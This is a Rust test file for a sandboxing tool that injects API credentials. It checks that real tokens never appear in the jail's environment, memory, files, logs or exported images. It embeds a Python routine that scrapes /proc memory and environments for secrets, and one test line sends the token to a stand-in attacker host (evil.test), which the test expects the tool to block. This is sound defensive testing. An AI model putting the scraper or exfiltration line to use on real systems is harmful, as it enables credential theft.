//! The real token is nowhere in the jail. The job looks for it everywhere it can read, and finds what was planted there.

use std::collections::BTreeSet;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use nix::unistd::Pid;

use crate::support::{Jail, Place, Server, descendants, files, is_root, places, random};

/// Looks for each `NAME=FIRST:SECOND` of its input as FIRST followed by SECOND. It never holds the two together itself,
/// so that what it finds is not its own question.
const SEARCH: &str = r#"
import os, sys
sought = {}
for line in sys.stdin:
    name, halves = line.strip().split("=", 1)
    sought[name] = tuple(half.encode() for half in halves.split(":"))
found = set()

def look(place, data):
    for name, (first, second) in sought.items():
        position = data.find(first)
        while position >= 0:
            if data.startswith(second, position + len(first)):
                found.add((name, place))
            position = data.find(first, position + 1)

def look_at_file(place, path):
    try:
        with open(path, "rb") as file:
            look(place, file.read(4 << 20))
    except OSError:
        pass

def look_at_memory(process):
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
            for line in maps:
                span, rights = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                # The rest is what files hold, and files are looked at themselves.
                if rights.startswith("rw") and end - start < 256 << 20:
                    try:
                        memory.seek(start)
                        look("memory", memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass

processes = [name for name in os.listdir("/proc") if name.isdigit()]
for process in processes:
    for name in ("environ", "cmdline"):
        look_at_file(name, f"/proc/{process}/{name}")
    look_at_memory(process)
# Where the libraries of programs are, the host's own files are bound: nothing of a job is ever written there.
for directory in ("/home", "/tmp", "/etc", "/run", "/dev/shm", "/var", "/root", os.getcwd()):
    for root, directories, names in os.walk(directory):
        if root.startswith(("/proc", "/sys")):
            continue
        for name in names:
            look_at_file("file", os.path.join(root, name))
for name, place in sorted(found):
    print(f"found {name} in {place}")
print(f"searched {len(processes)} processes")
"#;

fn halves(name: &str, text: &str) -> String {
    let (first, second) = text.split_at(text.len() / 2);
    format!("{name}={first}:{second}\n")
}

#[test]
fn nothing_in_the_jail_holds_the_real_token() {
    needs!("curl", "python3");
    let (server, token, planted) = (Server::https("api.test"), random("sk-ant-oat01-"), random("planted-"));
    let jail = Jail::new()
        .host("curl")
        .host("python3")
        .allow("api.test")
        .upstream(&server)
        .secret("T", &token)
        .credential("T=env:T@api.test")
        // The positive control: the search finds what is there.
        .options(["--env", &format!("PLANTED={planted}")])
        .file("planted.txt", &planted)
        .file("search.py", SEARCH)
        .options(["-v"])
        .input(halves("token", &token) + &halves("planted", &planted));
    // The token has been used and has come back when the search begins.
    let ended = jail.script(
        r#"curl -sS -o answer.json -D answer.txt -H "authorization: Bearer $T" https://api.test/gzip
        exec python3 search.py"#,
    );
    ended.succeeds().swapped("T", "api.test:443");
    assert_eq!(server.last().header("authorization").unwrap(), format!("Bearer {token}"));
    for place in ["environ", "file", "memory"] {
        ended.prints(&format!("found planted in {place}\n"));
    }
    ended.never_prints("found token");
}

#[test]
fn nothing_of_the_job_s_processes_holds_the_real_token_seen_from_outside() {
    needs!("curl");
    let (server, token) = (Server::https("api.test"), random("sk-"));
    let jail = Jail::new()
        .host("curl")
        .allow("api.test")
        .upstream(&server)
        .secret("T", &token)
        .credential("T=env:T@api.test");
    let mut running = jail.start_script(
        r#"answer=$(curl -sS -H "authorization: Bearer $T" https://api.test/echo); echo "dummy=$T"; echo ready; read line"#,
    );
    running.wait_for("ready\n");
    let launcher = running.launcher();
    let processes: Vec<Pid> =
        descendants(launcher).into_iter().map(|(pid, _)| pid).filter(|pid| *pid != launcher).collect();
    assert_eq!(places(&token, &processes), BTreeSet::new());
    let output = String::from_utf8(running.stdout.so_far()).unwrap();
    let dummy = output.strip_prefix("dummy=").unwrap().lines().next().unwrap();
    assert_eq!(places(dummy, &processes), BTreeSet::from([Place::Environment, Place::Memory]));
    // The launcher has it: root sees it there, other processes of an ordinary user do not.
    let expected = if is_root() { Some(Place::Environment) } else { None };
    assert_eq!(places(&token, &[launcher]).first(), expected.as_ref());
    running.ends().fails().swapped("T", "api.test:443");
}

#[test]
fn the_launcher_says_nothing_of_it_however_much_it_says() {
    needs!("curl");
    let (server, token) = (Server::https("api.test"), random("sk-"));
    let jail = Jail::new().host("curl").allow("api.test").upstream(&server).secret("T", &token);
    let jail = jail.credential("T=env:T@api.test").options(["-v", "-v"]);
    let script = r#"curl -sS -H "authorization: Bearer $T" https://api.test/echo
        curl -sS -H "authorization: Bearer $T" https://evil.test/echo?key=$T
        curl -sS -H "authorization: Bearer other" https://api.test/echo"#;
    // That it is not in the output, the messages, the records: each end is searched for it.
    let ended = jail.script(script);
    ended
        .swapped("T", "api.test:443")
        .denied("evil.test:443", "host-not-allowed")
        .denied("api.test:443", "foreign-credential");
    assert!(ended.stderr.lines().count() > 1, "-vv says more than the summary{ended}");
    let record = std::fs::read_dir(jail.state().join("jobs")).unwrap().next().unwrap().unwrap().path();
    assert!(record.join("job.json").is_file() && record.join("audit.jsonl").is_file());
}

#[test]
fn no_artefact_of_a_job_holds_a_real_token_wherever_it_stood_in_a_request() {
    needs!("curl");
    let server = Server::https("api.test");
    for (place, curl) in [
        ("well-known", r#"-H "authorization: Bearer $T" https://api.test/echo"#),
        ("header:x-own: Own {}", r#"-H "x-own: Own $T" https://api.test/echo"#),
        ("basic:password", r#"-u "me:$T" https://api.test/gzip"#),
        ("query:key", r#""https://api.test/echo?key=$T""#),
        ("cookie:session", r#"-b "session=$T" https://api.test/status/500"#),
        (
            "aws:secret-access-key",
            r#"-u "$ID:$T" --aws-sigv4 aws:amz:eu-north-1:sqs -d a=b https://api.test/echo"#,
        ),
    ] {
        let (token, id) = (random("sk-"), random("AKIA"));
        let mut jail = Jail::new()
            .host("curl")
            .allow("api.test")
            .allow("gone.test")
            .upstream(&server)
            // Nobody is there: what is said about a request that fails is searched too.
            .options(["--connect-to", "gone.test:443:127.0.0.1:1", "-v", "-v"])
            .secret("REAL", &token)
            .secret("REAL_ID", &id)
            .credential("T=env:REAL@api.test,gone.test")
            .options(["--inject", &format!("T={place}")]);
        if place.starts_with("aws:") {
            let named = ["--inject", "ID=aws:access-key-id"];
            jail = jail.credential("ID=env:REAL_ID@api.test,gone.test").options(named);
        }
        let script = format!(
            r#"curl -sS -i {curl}
            curl -sS -i {}
            echo "$T" > left
            echo "dummy=$T""#,
            curl.replace("api.test", "gone.test"),
        );
        let ended = jail.script(&script);
        ended.succeeds().swapped("T", "api.test:443").swapped("T", "gone.test:443");
        // The output, the messages and the state are searched at each end for the token as it is. Here for all spellings
        // that ended up anywhere.
        let artefacts: Vec<Vec<u8>> =
            files(jail.place()).iter().map(|file| std::fs::read(file).unwrap()).collect();
        let said = [ended.stdout.clone(), ended.stderr.clone().into_bytes()];
        let holds = |text: &str| {
            let found = |bytes: &Vec<u8>| memchr::memmem::find(bytes, text.as_bytes()).is_some();
            artefacts.iter().chain(&said).filter(|bytes| found(bytes)).count()
        };
        let dummy = ended.value("dummy");
        assert!(holds(&dummy) >= 2, "the search finds what is there{ended}");
        for secret in [&token, &id] {
            assert_eq!(holds(secret), 0, "{place}{ended}");
            for shift in 0..3 {
                let shifted = STANDARD_NO_PAD.encode(format!("{}{secret}", &"abc"[..shift]));
                // What is the secret's alone: the ends share bits with their neighbours.
                assert_eq!(holds(&shifted[4..shifted.len() - 4]), 0, "{place}, base64{ended}");
            }
        }
    }
}

#[cfg(target_os = "linux")]
#[test]
fn an_exported_image_holds_nothing_of_the_environment_of_whoever_exports_it() {
    let secret = random("private-");
    let specification = serde_json::json!({
        "version": 1, "name": "exported", "command": ["true"], "programs": ["true"],
        "environment": { "SAID": "in-the-jail" }, "passEnvironment": ["PRIVATE"],
    });
    let jail = Jail::named("exported", specification).variable("PRIVATE", &secret);
    // What counts of a program here: that it is static.
    let mut program = b"\x7fELF\x02\x01\x01".to_vec();
    program.resize(64, 0);
    for (position, value) in [(16, 2_u8), (18, 62), (20, 1), (52, 64), (54, 56), (58, 64)] {
        program[position] = value;
    }
    let path = jail.place().join("static");
    std::fs::write(&path, program).unwrap();
    let ended = jail.itself(["export-oci", "exported", "--program", path.to_str().unwrap()]);
    ended.succeeds().says("PRIVATE");
    let written = files(&jail.project().join("exported-oci"));
    let holds = |text: &str| {
        written.iter().any(|file| {
            std::fs::read(file).unwrap().windows(text.len()).any(|window| window == text.as_bytes())
        })
    };
    // The control.
    assert!(holds("in-the-jail"), "{written:?}");
    assert!(!holds(&secret), "{ended}");
}
